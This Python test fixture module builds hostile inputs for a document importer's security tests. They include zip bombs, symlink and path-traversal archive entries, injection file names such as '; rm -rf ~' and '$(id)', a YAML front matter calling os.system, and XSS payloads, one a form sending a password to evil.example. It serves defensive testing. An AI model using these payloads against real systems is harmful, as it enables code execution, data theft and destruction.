"""What attackers put among documents: archives, texts, registers and names; made here, so that nothing lies around."""

import io
import struct
import zipfile

from everproof.documents.content.tests.hostile import PASTES as MARKUP
from everproof.kernel.tests.files import corpus

SCRIPT = "<script>alert(document.domain)</script>"
FRONT_BOMB = (
    "---\n" + "a: &a [x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a]\nc: !!python/object/apply:os.system ['id']\n" + "---\n\n"
)


def zipped(entries, method=zipfile.ZIP_DEFLATED):
    """A zip with these (name, content) entries, under the very names that are given."""
    found = io.BytesIO()
    with zipfile.ZipFile(found, "w", method) as made:
        for name, content in entries:
            entry = zipfile.ZipInfo("x")
            entry.filename = name
            entry.compress_type = method
            made.writestr(entry, content)
    return found.getvalue()


def link():
    found = io.BytesIO()
    with zipfile.ZipFile(found, "w") as made:
        entry = zipfile.ZipInfo("passwords.md")
        entry.external_attr = 0o120777 << 16
        made.writestr(entry, "/etc/passwd")
        made.writestr("real.md", "# Real\n\nThis one is a document.")
    return found.getvalue()


def locked():
    raw = bytearray(zipped([("a.md", "# Locked\n\nWords.")]))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        raw[raw.find(mark) + offset] |= 1
    return bytes(raw)


def lying():
    """An entry that unpacks to far more than its directory says."""
    raw = bytearray(zipped([("a.md", b"x" * 3_000_000)]))
    place = raw.find(b"PK\x01\x02")
    raw[place + 24 : place + 28] = struct.pack("<I", 10)
    return bytes(raw)


# A zip as a whole: refused before anything of it is kept, or taken without what is dangerous.
ARCHIVES = {
    "bomb": zipped([("a.md", b" " * 60_000_000)]),
    "bomb in a bomb": zipped([("b.zip", zipped([("a.md", b" " * 40_000_000)]))]),
    "too many": zipped([(f"{number}.md", b"") for number in range(5_100)], zipfile.ZIP_STORED),
    "locked": locked(),
    "lies about its size": lying(),
    "no zip": b"<html>" * 10,
    "cut off": zipped([("a.md", "# Cut\n\nWords.")])[:-30],
    "empty": zipped([]),
    "only a directory": b"PK\x05\x06" + b"\x00" * 18,
    "program": corpus.SHELL,
}

# Names inside a zip: all are only words, and stay below the folder that is theirs.
NAMES = (
    "../../../../etc/cron.d/evil.md",
    "..\\..\\windows\\system32\\evil.md",
    "/etc/passwd.md",
    "C:/evil.md",
    "\\\\server\\share\\evil.md",
    "a/../../b/evil.md",
    "photo\u202edm.exe.md",
    "\u200b\u200fevil.md",
    "evil\x00.md",
    "evil\r\nSet-Cookie: x.md",
    "<img src=x onerror=alert(1)>.md",
    "con.md",
    "aux.md",
    "x" * 3000 + ".md",
    "deep/" * 200 + "evil.md",
    "   .md",
    "evil.md.",
    "evil.md   ",
    "$(id).md",
    "`id`.md",
    "; rm -rf ~.md",
    "%2e%2e%2fevil.md",
    "=cmd|'/c calc'!A1.md",
    "{{7*7}}{% debug %}.md",
    "'; drop table documents_document; --.md",
)

# Texts: (name, content). What comes in of them holds nothing that runs.
TEXTS = {
    "html page": ("page.html", f"<h1>Page</h1><p>Some words.</p>{SCRIPT}"),
    "html with handlers": ("on.html", "<p onclick=alert(1)>Words<img src=x onerror=alert(1)></p>"),
    "html with a frame": ("frame.html", "<p>Words</p><iframe src='javascript:alert(1)'></iframe>"),
    "html with a form": ("form.html", "<p>Words</p><form action='//evil.example'><input name=password></form>"),
    "html with svg": ("svg.html", "<p>Words</p><svg><script>alert(1)</script></svg>"),
    "html with a base": ("base.html", "<base href='//evil.example/'><p>Words <a href='x'>link</a></p>"),
    "html with a refresh": ("meta.html", "<meta http-equiv=refresh content='0;url=//evil.example'><p>Words</p>"),
    "html with a script link": ("link.html", "<p>Words <a href='javascript:alert(1)'>here</a></p>"),
    "html with data": ("data.html", "<p>Words <a href='data:text/html,<script>alert(1)</script>'>here</a></p>"),
    "html with a remote picture": ("beacon.html", "<p>Words</p><img src='https://evil.example/pixel.png'>"),
    "html with a local file": ("file.html", "<p>Words</p><img src='file:///etc/passwd'><img src='/etc/passwd'>"),
    "html that climbs": ("climb.html", "<p>Words</p><img src='../../../../etc/passwd'>"),
    "html with a picture of script": (
        "inline.html",
        "<p>Words</p><img src='data:image/png;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>",
    ),
    "html with styles": ("style.html", "<style>body{background:url(//evil.example)}</style><p style='x'>Words</p>"),
    "html that never ends": ("open.html", "<p>Words</p><!--" + "x" * 10_000),
    "html too deep": ("deep.html", "<div>" * 20_000 + "Words"),
    "html with a hidden table": ("table.html", "<table>" + "<tr><td>x</td></tr>" * 20_000 + "</table>"),
    "markdown with html": ("mixed.md", f"# Mixed\n\nSome words here.\n\n{SCRIPT}\n"),
    "markdown with a link": ("md-link.md", "# Link\n\n[words](javascript:alert(1)) and more words."),
    "markdown with a picture": ("md-picture.md", "# Picture\n\nWords ![x](file:///etc/passwd)"),
    "markdown with brackets": ("brackets.md", "# Brackets\n\n" + "[" * 20_000),
    "front matter of programs": ("front.md", FRONT_BOMB + "# Front\n\nSome words here."),
    "front matter without end": ("endless.md", "---\n" + "a: b\n" * 10_000 + "# Endless\n\nWords."),
    "front matter with markup": ("markup.md", f"---\ntitle: {SCRIPT}\nauthor: {SCRIPT}\n---\n\nSome words here."),
    "template": ("template.md", "# {{7*7}}\n\n{% load x %}{{ request.user.password }} ${7*7} <%= 7*7 %> #{7*7}"),
    "typst": ("typst.md", '# Paper\n\n#read("/etc/passwd") #import "@preview/x:1.0.0" $x$ Words.'),
    "nuls": ("nul.md", "# Nul\x00\n\nWords\x00."),
    "turned words": ("turned.md", "# Turned \u202etxet\n\nApprove \u2066not\u2069 this."),
    "pdf as text": ("pdf.md", corpus.pdf().decode("latin-1")),
    "zip as text": ("zip.md", "PK\x03\x04 rest"),
    "program as text": ("program.md", "MZ\x90\x00"),
    "nothing": ("empty.md", ""),
    "spaces": ("spaces.md", " \n\t\n"),
    "half a character": ("half.md", "# Half\n\nWords \udcff"),
    "number that is a path": ("number.md", "---\ndocument_id: ../../etc/1\n---\n\nSome words here."),
    "number that is markup": ("number2.md", "---\ndocument_id: <b>1</b>\n---\n\nSome words here."),
    "day out of range": ("day.md", "---\neffective date: 99999-99-99\n---\n\nSome words here."),
    "day in the future": ("future.md", "---\neffective date: 2999-01-01\nstatus: approved\n---\n\nSome words here."),
    "long title": ("long.md", "---\ntitle: " + "x" * 100_000 + "\n---\n\nSome words here."),
}


def every_file():
    """(what it is, name, content) of all hostile single files, well above a hundred."""
    for what, (name, content) in {**corpus.REFUSED, **corpus.TAKEN}.items():
        yield what, name, content
    for what, (name, content) in TEXTS.items():
        yield what, name, content.encode("utf-8", errors="surrogateescape")
    for number, markup in enumerate(MARKUP):
        yield f"markup {number}", f"markup-{number}.html", f"<p>Some words.</p>{markup}".encode("utf-8", "replace")
